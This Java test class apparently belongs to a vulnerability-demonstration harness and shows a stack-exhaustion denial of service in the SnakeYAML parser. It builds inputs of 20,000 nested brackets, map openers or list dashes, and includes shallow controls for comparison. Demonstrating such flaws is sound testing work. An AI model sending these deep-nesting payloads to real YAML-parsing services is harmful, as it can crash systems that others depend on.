import org.yaml.snakeyaml.Yaml;
import underpin.canary.Attempts;
import underpin.canary.Canary;
import underpin.canary.Demonstration;

/** Nested collections exhaust the stack (snakeyaml). */
public final class SnakeYamlDepth implements Demonstration {
  @Override
  public void attempts(Attempts to) throws Exception {
    to.proof("lists", c -> c.depth(n -> new Yaml().load(Canary.repeat("[", 20000))));
    to.variant("maps", c -> c.depth(n -> new Yaml().load(Canary.repeat("{a: ", 20000))));
    to.variant("block lists", c -> c.depth(n -> new Yaml().load(Canary.repeat("- ", 20000) + "1")));
    to.variant("composing", c -> c.depth(n -> new Yaml().compose(new java.io.StringReader(Canary.repeat("[", 20000)))));
    to.control("shallow", c -> String.valueOf((Object) new Yaml().load(Canary.repeat("[", 20) + Canary.repeat("]", 20))));
    to.control("maps", c -> String.valueOf((Object) new Yaml().load("{a: {b: {c: [1, 2, {d: e}]}}}")));
    to.replay("nested", (c, r) -> {
      int depth = 1 + r.nextInt(40);
      return String.valueOf((Object) new Yaml().load(Canary.repeat("[", depth) + r.nextInt() + Canary.repeat("]", depth)));
    });
  }
}
